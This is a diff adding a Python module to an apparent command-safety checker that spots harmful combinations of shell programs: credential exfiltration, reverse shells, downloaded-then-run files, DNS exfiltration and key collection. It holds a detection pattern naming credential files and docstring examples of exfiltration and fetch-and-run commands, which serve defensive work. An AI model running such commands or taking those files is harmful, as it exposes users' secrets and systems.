@@ -1,0 +1,416 @@
+"""Effects of the programs of a command taken together.
+
+The kinds: `exfiltrate` (credentials that leave through a pipe, a substitution or an intermediate file; with the flag `bulk`
+whole folders of the user or the system), `remote-shell` (a shell and a connection that feed each other), `run-text` with the
+flags `fetched` and `later` (a file that was downloaded and then runs), `stage` (keys collected in one place), `scan`,
+`method` (text in the form of a method call in place of a program), `kill-found` (processes that another program lists).
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+
+from toolguard_engine.effects import program_catalogue
+from toolguard_engine.effects.programs.code_text import methods
+from toolguard_engine.effects.programs.interpreters import DECODERS, FETCHERS, hidden_text
+from toolguard_engine.effects.programs.web_programs import data_flags, host_flags, target
+from toolguard_engine.effects.shell.command import UNKNOWN, Effect, ProgramRun, Reading
+from toolguard_engine.effects.shell.places import Where, place
+from toolguard_engine.effects.shell.wrappers import SHELLS
+
+_SENDS = frozenset({"send", "copy-out", "http"})
+_TAKES = frozenset({"read", "pack", "encrypt", "move", "link", "search"})
+_CONNECTORS = program_catalogue.programs("connector")
+_RUNNERS = program_catalogue.programs("fetched_file_runner")
+_LIST_RUNNERS = program_catalogue.programs("list_runner")
+_KEEPERS = program_catalogue.programs("output_keeper")
+_RESOLVERS = program_catalogue.programs("name_resolver")
+_ENCODERS = program_catalogue.programs("encoder")
+_MAKERS = program_catalogue.programs("data_maker")
+_TALKERS = _CONNECTORS | {"ztcp"}
+_SOCKET = ("/dev/tcp/", "/dev/udp/")
+_COLLECTORS = program_catalogue.programs("found_file_collector")
+_KEYS = re.compile(
+    r"(?i)id_(?:rsa|dsa|ecdsa|ed25519)|\.pem$|\.ppk$|\.p12$|\.pfx$|\.kdbx?|\.keychain|\.ovpn$|\.aws|\.netrc|\.pgpass|\.kube|shadow"
+    r"|wallet|login data|logins\.json|cookies|credential|\.npmrc|\.git-credentials|password|\.gnupg|secret"
+)
+MAX_SHOWN = 200
+MAX_PARTNERS = 50
+"""Programs that are compared with each other; comparing all would be quadratic."""
+MANY_ENDS = 8
+
+
+def effects(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterable[Effect]:
+    """The effects of combinations. `found`: those of the programs themselves."""
+    names = {run.name for run in reading.runs}
+    sockets = any(each.target.startswith(_SOCKET) for run in reading.runs if run.redirects for each in run.redirects)
+    if found or sockets:
+        yield from _exfiltrates(reading, found, where)
+    if not _MAKERS.isdisjoint(names):
+        yield from _downloaded_then_run(reading, found)
+        yield from _run_from_variable(reading, found)
+    if sockets or not _TALKERS.isdisjoint(names):
+        yield from _shells(reading)
+        yield from _scans(reading)
+    if not SHELLS.isdisjoint(names):
+        yield from _run_by_xargs(reading)
+    if "git" in names and len(reading.runs) > 1:
+        yield from _pushed(reading)
+    if "kill" in names:
+        yield from _killed(reading)
+    if "find" in names:
+        yield from _stages(reading)
+    if not _RESOLVERS.isdisjoint(names):
+        yield from _exfiltrated_by_dns(reading, found)
+    spelled = " ".join(names)
+    if UNKNOWN in spelled:
+        yield from _fetched_command(reading)
+    if "." in spelled or "::" in spelled:
+        yield from _method_calls(reading)
+
+
+# --- credentials that leave -----------------------------------------------------------------------------------------------
+
+
+def _exfiltrates(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
+    sends = [effect for effect in found if effect.kind in _SENDS and "local" not in effect.flags and effect.run is not None]
+    sends = sends[:MAX_PARTNERS]
+    redirected = [
+        run for run in reading.runs if any(r.kind != "read" and r.target.startswith(_SOCKET) for r in run.redirects)
+    ]
+    handed = any(effect.run is not None and _line_wrapper(effect.run) for effect in found if effect.kind in _ASKS)
+    if not sends and not redirected and not handed:
+        return
+    targets: set[str] = set()
+    for send in sends:
+        if send.run is not None and send.target not in targets and "mail" not in send.flags | {"-"}:
+            flags = _exfiltration_flags(send, send.run, reading, found, where)
+            if flags is not None:
+                targets.add(send.target)
+                yield Effect("exfiltrate", send.target, "remote", flags, send.run)
+    for send in sends:
+        if send.run is not None and "mail" in send.flags and "credentials" in send.flags:
+            yield Effect("exfiltrate", send.target, "remote", frozenset({"mail"}), send.run)
+    yield from _exfiltrated_by_xargs(reading, found, where)
+    for run in redirected[:MAX_PARTNERS]:
+        if "credentials" in _input_flags(run, reading, where) or any(
+            e.run is run and e.place == "credentials" for e in found
+        ):
+            yield Effect("exfiltrate", run.redirects[-1].target, "remote", frozenset(), run)
+
+
+_ASKS = _SENDS | {"fetch", "connect"}
+
+
+def _line_wrapper(run: ProgramRun) -> str:
+    """The wrapper that turns lines into words of this program."""
+    return next((name for name in run.via if name in _LIST_RUNNERS), "") if run.via else ""
+
+
+def _exfiltrated_by_xargs(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
+    """`xargs -I{} curl "https://host/{}" < .env`: each line of a key file becomes an address or a word."""
+    asking = [effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags]
+    for effect in asking[:MAX_PARTNERS]:
+        run = effect.run
+        hander = _line_wrapper(run) if run is not None else ""
+        if run is None or not hander or not any(UNKNOWN in word for word in run.argv):
+            continue
+        for wrapper in reading.runs:
+            if wrapper.name == hander and (wrapper.redirects or wrapper.stdin is not None):
+                feed = _input_flags(wrapper, reading, where)
+                read = (r.target for r in wrapper.redirects if r.kind == "read")
+                if "credentials" in feed or any(place(path, where, wrapper.cwd) == "credentials" for path in read):
+                    yield Effect("exfiltrate", effect.target.replace(UNKNOWN, "?"), "remote", frozenset(), run)
+                    break
+
+
+def _exfiltration_flags(
+    send: Effect, run: ProgramRun, reading: Reading, found: tuple[Effect, ...], where: Where
+) -> frozenset[str] | None:
+    """The flags of the `exfiltrate` effect that this sending amounts to, or None."""
+    flags = send.flags | _input_flags(run, reading, where)
+    if "credentials" in flags:
+        return frozenset()
+    for taken in _secrets_before(run, reading, found):
+        taker = taken.run
+        if taker is None:
+            continue
+        same = taker.piped and (taker.pipeline == run.pipeline or (run.given and "$()" in taker.via))
+        if same or _through_file(taker, run, reading):
+            return frozenset() if taken.place == "credentials" else frozenset({"bulk"})
+    return frozenset({"bulk", "secret"} & flags) or None
+
+
+def _secrets_before(run: ProgramRun, reading: Reading, found: tuple[Effect, ...]) -> list[Effect]:
+    """Credentials read and whole folders packed before this program runs; credentials first."""
+    earlier: set[int] = set()
+    for other in reading.runs:
+        if other is run:
+            break
+        earlier.add(id(other))
+    taken = [effect for effect in found if effect.kind in _TAKES and id(effect.run) in earlier]
+    secret = [effect for effect in taken if effect.place == "credentials"]
+    whole = [effect for effect in taken if effect.place in ("root", "home", "system") and effect.kind == "pack"]
+    return secret[:MAX_PARTNERS] + whole[:MAX_PARTNERS]
+
+
+def _input_flags(run: ProgramRun, reading: Reading, where: Where) -> frozenset[str]:
+    """Flags of the data that arrives through the pipe: from the source itself and from the programs before it."""
+    flags = data_flags(run.stdin, where, run.cwd)
+    if run.stdin is None:
+        return flags
+    for other in reading.runs:
+        if other is run:
+            break
+        if (
+            other.pipeline == run.pipeline
+            and other.piped
+            and any(
+                place(word, where, other.cwd) == "credentials"
+                for word in (*other.argv[1:16], *(r.target for r in other.redirects))
+                if "/" in word or word.startswith(("~", "."))
+            )
+        ):
+            flags |= {"credentials"}
+    return flags
+
+
+def _through_file(taker: ProgramRun, sender: ProgramRun, reading: Reading) -> bool:
+    """Whether the sender sends a file that the taker wrote, that is, whether they share a word."""
+    written = {word.removeprefix("@") for word in taker.argv[1:] if len(word) > 2 and not word.startswith("-")}  # noqa: PLR2004 - a name, not an option
+    written.update(redirect.target for redirect in taker.redirects if redirect.kind in ("write", "append"))
+    for other in reading.runs:
+        if other.pipeline == taker.pipeline:
+            written.update(r.target for r in other.redirects if r.kind in ("write", "append"))
+    names = {word.rpartition("/")[2] for word in written} - {""}
+    words = [*sender.argv[1:], *(r.target for r in sender.redirects), *((sender.stdin.files) if sender.stdin else ())]
+    return any(_name(word) in names for word in words)
+
+
+def _name(word: str) -> str:
+    return word.rpartition("@")[2].partition(";")[0].rpartition("/")[2]
+
+
+# --- downloaded and run -----------------------------------------------------------------------------------------------
+
+
+def _downloaded_then_run(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
+    got: dict[str, ProgramRun] = {}
+    for effect in found:
+        if effect.kind == "write" and "fetched" in effect.flags and effect.run is not None:
+            got[effect.target.rpartition("/")[2]] = effect.run
+    for run in reading.runs:
+        if run.name in FETCHERS | DECODERS or (run.stdin is not None and run.stdin.programs):
+            for redirect in run.redirects:
+                if (
+                    redirect.kind in ("write", "append")
+                    and redirect.fd in ("", "1")
+                    and not redirect.target.startswith("/dev/")
+                ):
+                    maker = {run.name, *(run.stdin.programs if run.stdin else ())}
+                    if maker & (FETCHERS | DECODERS):
+                        got[redirect.target.rpartition("/")[2]] = run
+    got.pop("", None)
+    if not got:
+        return
+    seen: set[int] = set()
+    for run in reading.runs:
+        seen.add(id(run))
+        name = _downloaded_file(run, got)
+        if name and id(got[name]) in seen and got[name] is not run:
+            flags = {"fetched", "later"} if got[name].name not in DECODERS else {"decoded", "later"}
+            yield Effect("run-text", name, "", frozenset(flags), run)
+
+
+def _downloaded_file(run: ProgramRun, got: dict[str, ProgramRun]) -> str:
+    """The downloaded file that this run executes, directly or as the script of an interpreter."""
+    own = run.argv[0].rpartition("/")[2]
+    if own in got and "/" in run.argv[0]:
+        return own
+    if run.name in _RUNNERS or run.name.startswith(("python", "pypy")):
+        if run.name == "chmod" and not any("x" in word or "7" in word or "5" in word for word in run.argv[1:3]):
+            return ""
+        for word in run.argv[1:8]:
+            name = word.rpartition("/")[2]
+            if name in got:
+                return name
+        for redirect in run.redirects:
+            if redirect.kind == "read" and redirect.target.rpartition("/")[2] in got and run.name in SHELLS:
+                return redirect.target.rpartition("/")[2]
+    return ""
+
+
+# --- remote shells --------------------------------------------------------------------------------------------------------
+
+
+def _scans(reading: Reading) -> Iterator[Effect]:
+    """Many ports through the shell's own sockets, or one that a loop supplies."""
+    ends = {redirect.target for run in reading.runs for redirect in run.redirects if redirect.target.startswith(_SOCKET)}
+    if len(ends) >= MANY_ENDS or any(UNKNOWN in end or ".." in end for end in ends):
+        run = next(run for run in reading.runs for redirect in run.redirects if redirect.target in ends)
+        yield Effect("scan", min(ends), "remote", frozenset(), run)
+
+
+def _shells(reading: Reading) -> Iterator[Effect]:
+    socket = ""
+    fed_by_shell = {run.pipeline for run in reading.runs if _bare_shell(run)}
+    for run in reading.runs:
+        if run.name == "ztcp":
+            socket = " ".join(run.argv[1:3])
+        for redirect in run.redirects:
+            if redirect.target.startswith(_SOCKET):
+                socket = redirect.target
+                if run.name not in SHELLS and run.name != "exec":
+                    host = socket.split("/")[3]
+                    yield Effect("connect", socket, "remote", host_flags(host), run)
+        if run.stdin is not None and (_bare_shell(run) or _evaluates(run)) and _from_socket(run, reading):
+            yield Effect("remote-shell", " ".join(run.stdin.programs[:4]), "remote", frozenset(), run)
+        elif run.name in _CONNECTORS and run.stdin is not None and SHELLS.intersection(run.stdin.programs):
+            if run.pipeline in fed_by_shell:
+                yield Effect("remote-shell", " ".join(run.argv[1:4]), "remote", frozenset(), run)
+        elif socket and (run.name.startswith(UNKNOWN) or _bare_shell(run)):
+            yield Effect("remote-shell", socket, "remote", frozenset(), run)
+
+
+def _evaluates(run: ProgramRun) -> bool:
+    return run.name == "eval" or run.name.startswith(UNKNOWN)
+
+
+def _from_socket(run: ProgramRun, reading: Reading) -> bool:
+    """Whether it gets its commands from a plain connection."""
+    made_by = run.stdin.programs if run.stdin is not None else ()
+    if "openssl" in made_by and not any("s_client" in other.argv[1:3] for other in reading.runs):
+        return False
+    return not _CONNECTORS.isdisjoint(made_by)
+
+
+def _bare_shell(run: ProgramRun) -> bool:
+    """A shell without a script, which runs its standard input."""
+    return run.name in SHELLS and all(word.startswith("-") and "c" not in word for word in run.argv[1:])
+
+
+def _fetched_command(reading: Reading) -> Iterator[Effect]:
+    """`$(curl ...)`: what another machine sends is the command itself."""
+    for run in reading.runs:
+        if run.name.startswith(UNKNOWN):
+            for at, feed in run.given:
+                if at == 0:
+                    yield from hidden_text(run, feed, piped=False)
+
+
+def _run_from_variable(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
+    """`x=$(curl ...); eval "$x"`: what was fetched is kept in a variable, or read line by line, and then runs."""
+    piped = [run for run in reading.runs if run.name in FETCHERS and run.piped]
+    fetchers = [run for run in piped[:MAX_PARTNERS] if _is_last(run, reading)]
+    if not fetchers:
+        return
+    evaluated = any(effect.kind == "run-text" and "variable" in effect.flags for effect in found)
+    if evaluated or any(run.name.startswith(UNKNOWN) and not run.given for run in reading.runs):
+        yield Effect("run-text", fetchers[0].name, "", frozenset({"fetched"}), fetchers[0])
+
+
+def _is_last(run: ProgramRun, reading: Reading) -> bool:
+    """Whether its output is kept unchanged: no program of its pipeline except `read` takes it."""
+    after = (
+        other for other in reading.runs if other.pipeline == run.pipeline and other is not run and other.stdin is not None
+    )
+    return all(other.name in _KEEPERS or other.name.startswith(UNKNOWN) for other in after)
+
+
+def _exfiltrated_by_dns(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
+    """DNS names assembled from pieces, beside a program that makes such pieces out of a file."""
+    secret = any(effect.place == "credentials" for effect in found)
+    if not secret and not any(
+        run.name in _ENCODERS or any(w.startswith("/etc/") for w in run.argv[1:]) for run in reading.runs
+    ):
+        return
+    for run in reading.runs:
+        if run.name in _RESOLVERS and any(UNKNOWN in word and "." in word.rpartition(UNKNOWN)[2] for word in run.argv[1:]):
+            yield Effect(
+                "exfiltrate", " ".join(run.argv[1:4]).replace(UNKNOWN, "?"), "remote", frozenset({"bulk", "dns"}), run
+            )
+            return
+
+
+def _run_by_xargs(reading: Reading) -> Iterator[Effect]:
+    """`curl ... | xargs -I{} sh -c {}`: the text that runs arrives through the wrapper's pipe."""
+    for run in reading.runs:
+        if run.name in SHELLS and run.via[-1:] in (("xargs",), ("parallel",)) and UNKNOWN in run.argv[2:]:
+            for other in reading.runs:
+                if other.name == run.via[-1] and other.stdin is not None and other.stdin.text is None:
+                    kind = "fetched" if FETCHERS.intersection(other.stdin.programs) else "unknown"
+                    yield Effect("run-text", " | ".join(other.stdin.programs[:6]), "", frozenset({kind}), run)
+                    break
+
+
+# --- code pushed to a new address -----------------------------------------------------------------------------------------
+
+
+def _pushed(reading: Reading) -> Iterator[Effect]:
+    """`git remote add x https://... && git push x --all`: a push of everything to a new address."""
+    new: dict[str, str] = {}
+    for run in reading.runs:
+        words = [word for word in run.argv[1:] if word[:1] != "-"] if run.name == "git" else []
+        if words[:2] in (["remote", "add"], ["remote", "set-url"]) and len(words) > 3:  # noqa: PLR2004 - a name and an address
+            new[words[2]] = words[3]
+        elif words[:1] == ["push"] and len(words) > 1 and not _WHOLE.isdisjoint(run.argv):
+            address = new.get(words[1], words[1] if "://" in words[1] else "")
+            if address and (words[1] != "origin" or "://" in words[1]):
+                yield Effect("send", address, "remote", frozenset({"file", "upload", *target(address).flags}), run)
+
+
+_WHOLE = frozenset({"--all", "--mirror", "--branches"})
+
+
+# --- processes found and killed -------------------------------------------------------------------------------------------
+
+
+def _killed(reading: Reading) -> Iterator[Effect]:
+    """Ends processes that another program lists. Listing who listens on a port that the command names does not count."""
+    for run in reading.runs:
+        hander = _line_wrapper(run) if run.name == "kill" else ""
+        if not hander:
+            continue
+        feeders = [other for other in reading.runs if other.name == hander and other.stdin is not None]
+        by_port = feeders and all(
+            other.stdin is not None and other.stdin.programs == ("lsof",) and _of_port(reading) for other in feeders
+        )
+        if not by_port:
+            yield Effect("kill-found", " ".join(run.argv[:4]).replace(UNKNOWN, "?"), "", frozenset(), run)
+            return
+
+
+def _of_port(reading: Reading) -> bool:
+    return all(any(_PORT.match(word) for word in run.argv[1:]) for run in reading.runs if run.name == "lsof")
+
+
+_PORT = re.compile(r"(?:-[tiTnPQ]{0,4})?i?(?:tcp|udp|TCP|UDP)?:[0-9]{1,5}\Z")
+
+
+# --- keys collected ---------------------------------------------------------------------------------------------------
+
+
+def _stages(reading: Reading) -> Iterator[Effect]:
+    for run in reading.runs:
+        if run.name == "find" and any(_KEYS.search(word) for word in run.argv[1:24] if len(word) < MAX_SHOWN):
+            for other in reading.runs:
+                if other.name in _COLLECTORS and ("find" in other.via or (other.via[-1:] in (("xargs",), ("parallel",)))):
+                    yield Effect("stage", " ".join(run.argv[1:8]), "credentials", frozenset(), other)
+                    break
+
+
+# --- method calls in place of programs --------------------------------------------------------------------------------
+
+
+def _method_calls(reading: Reading) -> Iterator[Effect]:
+    for run in reading.runs[:8]:
+        head = run.argv[0]
+        if (
+            ("." in head or "::" in head)
+            and "/" not in head
+            and ("broken" in reading.flaws or "(" in " ".join(run.argv[:6]))
+        ):
+            yield from (
+                Effect("method", text[:MAX_SHOWN], "remote", frozenset({"bare"}), run) for text in methods(f"{head}('")
+            )
